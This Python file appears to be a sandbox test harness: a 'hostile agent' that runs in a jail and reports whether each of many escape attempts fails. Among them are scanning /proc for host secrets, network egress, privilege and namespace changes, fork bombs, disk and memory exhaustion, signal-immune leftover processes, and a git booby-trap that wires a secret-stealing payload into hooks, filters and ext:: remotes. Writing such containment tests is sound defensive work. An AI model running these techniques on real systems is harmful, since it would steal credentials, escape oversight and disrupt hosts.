"""An agent that tries everything. It runs within a jail in place of the agent CLI, on the standard library alone.

    hostile_agent.py ATTEMPT JSON

What it is told is more than an attacker would know: where the host's secrets are, and how they begin. Every attempt
answers what came of it: a text that begins with "no" where it failed, and what it got where it did not.
"""

import ctypes
import http.client
import json
import os
import resource
import signal
import socket
import sys
import time
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
GATEWAY = ("127.0.0.1", 8787)


def _tried(attempt, *given):
    try:
        return f"got {attempt(*given)!r}"
    except Exception as error:
        return f"no: {type(error).__name__}: {error}"


def _called(function, *given):
    if getattr(LIBC, function)(*given) == 0:
        return "done"
    raise OSError(ctypes.get_errno(), function)


def escape(facts):
    """Everything that is over in a moment. `facts`: paths, secret, loopback_port, abstract, pid."""
    answers = {}
    for path in facts["paths"]:
        answers[f"read {path}"] = _tried(lambda path=path: Path(path).read_bytes()[:50])
        answers[f"read {path} by a process's root"] = _tried(_by_root, path)
    answers["list the home"] = _tried(lambda: _listed(facts["home"]))
    answers["find the secret in an environment"] = _tried(_in_environments, facts["secret"])
    answers["find the secret in a command line"] = _tried(_in_command_lines, facts["secret"])
    answers["connect to the internet"] = _tried(lambda: socket.create_connection(("1.1.1.1", 443), 3))
    answers["send a datagram"] = _tried(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53)))
    answers["ask a name server"] = _tried(lambda: socket.getaddrinfo("api.anthropic.com", 443))
    answers["reach the host's loopback"] = _tried(
        lambda: socket.create_connection(("127.0.0.1", facts["loopback_port"]), 3)
    )
    answers["reach the host's abstract socket"] = _tried(_abstract, facts["abstract"])
    for path in ("/usr/bin/evil", "/etc/evil", "/evil", "/dev/evil", "/opt/loopdesk/evil", "/bin/evil"):
        answers[f"write {path}"] = _tried(lambda path=path: Path(path).write_text("x"))
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/self/oom_score_adj"):
        answers[f"open {path}"] = _tried(lambda path=path: os.open(path, os.O_WRONLY))
    answers["replace the relay"] = _tried(lambda: Path("/opt/loopdesk/relay.py").write_text("x"))
    answers["become root"] = _tried(lambda: os.setuid(0))
    answers["another user namespace"] = _tried(_called, "unshare", 0x10000000)
    answers["another mount namespace"] = _tried(_called, "unshare", 0x00020000)
    answers["mount"] = _tried(_called, "mount", b"none", b"/tmp", b"tmpfs", 0, None)
    answers["make a device"] = _tried(lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0)))
    answers["change the root"] = _tried(lambda: os.chroot("/jail"))
    answers["kill the engine"] = _tried(lambda: os.kill(facts["pid"], signal.SIGTERM))
    answers["trace the engine"] = _tried(_called, "ptrace", 16, facts["pid"], 0, 0)
    answers["run longer processes"] = _tried(
        lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    )
    answers["fill the memory of /tmp"] = _tried(_filled, "/tmp/full", facts["scratch_bytes"] * 2)
    answers["fill the memory of /dev/shm"] = _tried(_filled, "/dev/shm/full", facts["scratch_bytes"] * 2)
    answers["a memory file of 10 GB"] = _tried(_memory_file)
    answers["a sparse file of 10 GB"] = _tried(lambda: os.truncate(os.open("sparse", os.O_CREAT | os.O_RDWR), 10 << 30))
    return answers


def _by_root(path):
    for process in Path("/proc").glob("[0-9]*"):
        found = Path(f"{process}/root{path}")
        if found.exists():
            return found.read_bytes()[:50]
    raise FileNotFoundError(path)


def _listed(home):
    found = [path.name for path in Path(home).iterdir()]
    if not found:
        raise FileNotFoundError("empty")
    return found


def _in_environments(secret):
    return _holding(secret, "environ")


def _in_command_lines(secret):
    return _holding(secret, "cmdline")


def _holding(secret, name):
    for process in Path("/proc").glob("[0-9]*"):
        try:
            if secret.encode() in (process / name).read_bytes():
                return str(process)
        except OSError:
            continue
    raise LookupError("nowhere")


def _abstract(name):
    with socket.socket(socket.AF_UNIX) as there:
        there.connect("\0" + name)


def _filled(path, size):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with Path(path).open("wb") as file:
        for _ in range(size >> 16):
            file.write(bytes(1 << 16))
    return size


def _memory_file():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    os.ftruncate(os.memfd_create("x"), 10 << 30)


def gateway(facts):
    """Requests, as `[method, path, headers, body]`, one connection each, and raw bytes. Answers status and body."""
    answers = []
    for method, path, headers, body in facts["requests"]:
        connection = http.client.HTTPConnection(*GATEWAY, timeout=10)
        try:
            connection.request(method, path, body if isinstance(body, str) else json.dumps(body), headers)
            response = connection.getresponse()
            answers.append([response.status, response.read().decode("utf-8", "replace")])
        except (OSError, http.client.HTTPException) as error:
            answers.append([0, type(error).__name__])
    for raw in facts.get("raw", []):
        with socket.create_connection(GATEWAY, 10) as there:
            there.settimeout(5)
            there.sendall(raw.encode("latin-1"))
            there.shutdown(socket.SHUT_WR)
            said = b""
            while chunk := there.recv(65536):
                said += chunk
        answers.append([int(said.split(b" ")[1]) if said else 0, said.decode("latin-1")])
    return answers


def fork_bomb(facts):
    # Not endless, for the day on which the jail does not hold.
    for _ in range(facts["most"]):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            time.sleep(0.01)
    time.sleep(30)


def eat_memory(facts):
    held = []
    for _ in range(facts["most_mb"]):
        held.append(os.urandom(1 << 20))
    time.sleep(30)


def fill_disk(facts):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    for number in range(facts["most_mb"]):
        Path(f"part-{number}").write_bytes(os.urandom(1 << 20))
    time.sleep(30)


def sleep(facts):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    time.sleep(60)


def leave_behind(facts):
    """A process in a session of its own that no signal but one ends, and that writes on and on."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, signal.NSIG):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    continue
            while True:
                with Path("ticks").open("ab") as file:
                    file.write(b"x")
                time.sleep(0.002)
        os._exit(0)
    while not Path("ticks").exists():
        time.sleep(0.002)
    return "left"


def kill_everyone(facts):
    os.kill(-1, signal.SIGKILL)


def dig(facts):
    """Folders without rights, and more within each other than a path can name."""
    Path("closed").mkdir()
    Path("closed/file").write_text("x")
    Path("closed").chmod(0)
    for _ in range(facts["deep"]):
        Path("deep").mkdir()
        os.chdir("deep")
    time.sleep(30)


def spoil_git(facts):
    """Everything in a clone that makes git run something, or read something that is not the clone's."""
    payload = Path("/jail/clone/payload.sh")
    payload.write_text(
        f"#!/bin/sh\ncat {facts['secret_file']} > /jail/clone/stolen\ntouch {facts['mark']} /jail/clone/ran\ncat\n"
    )
    payload.chmod(0o755)
    hooks = Path("/jail/clone/.git/hooks")
    hooks.mkdir(exist_ok=True)
    for hook in (
        "pre-commit",
        "post-commit",
        "reference-transaction",
        "post-checkout",
        "pre-push",
        "post-index-change",
    ):
        (hooks / hook).write_text(payload.read_text())
        (hooks / hook).chmod(0o755)
    config = Path("/jail/clone/.git/config")
    config.write_text(
        config.read_text()
        + f"""
[include]
	path = {facts["secret_file"]}
[filter "evil"]
	clean = /jail/clone/payload.sh
	smudge = /jail/clone/payload.sh
	required = false
[diff]
	external = /jail/clone/payload.sh
[diff "evil"]
	textconv = /jail/clone/payload.sh
	command = /jail/clone/payload.sh
[core]
	fsmonitor = /jail/clone/payload.sh
	sshCommand = /jail/clone/payload.sh
	pager = /jail/clone/payload.sh
	editor = /jail/clone/payload.sh
	askPass = /jail/clone/payload.sh
	alternateRefsCommand = /jail/clone/payload.sh
[uploadpack]
	packObjectsHook = /jail/clone/payload.sh
[credential]
	helper = /jail/clone/payload.sh
[gpg]
	program = /jail/clone/payload.sh
[commit]
	gpgSign = true
[protocol "ext"]
	allow = always
[remote "origin"]
	url = ext::sh -c /jail/clone/payload.sh
	pushurl = ext::sh -c /jail/clone/payload.sh
	uploadpack = /jail/clone/payload.sh
[url "ext::sh -c /jail/clone/payload.sh #"]
	pushInsteadOf = https://
	insteadOf = https://
"""
    )
    Path("/jail/clone/.gitattributes").write_text("*.txt filter=evil diff=evil\n")
    Path("/jail/clone/notes.txt").write_text("filtered\n")
    Path("/jail/clone/link").symlink_to(facts["secret_file"])
    Path("/jail/clone/.gitmodules").write_text(
        '[submodule "sub"]\n\tpath = sub\n\turl = ext::sh -c /jail/clone/payload.sh\n'
    )
    info = Path("/jail/clone/.git/objects/info")
    info.mkdir(exist_ok=True)
    (info / "alternates").write_text(facts["other_objects"] + "\n")
    return "spoilt"


def forge_output(facts):
    """As `spoil_git`'s filter would, in the jail in which the bundle is made."""
    payload = Path("/jail/clone/payload.sh")
    payload.write_text(facts["script"])
    payload.chmod(0o755)
    config = Path("/jail/clone/.git/config")
    config.write_text(config.read_text() + '[filter "evil"]\n\tclean = /jail/clone/payload.sh\n')
    Path("/jail/clone/.gitattributes").write_text("*.txt filter=evil\n")
    Path("/jail/clone/notes.txt").write_text("filtered\n")
    return "set"


if __name__ == "__main__":
    print(json.dumps(globals()[sys.argv[1]](json.loads(sys.argv[2]))))
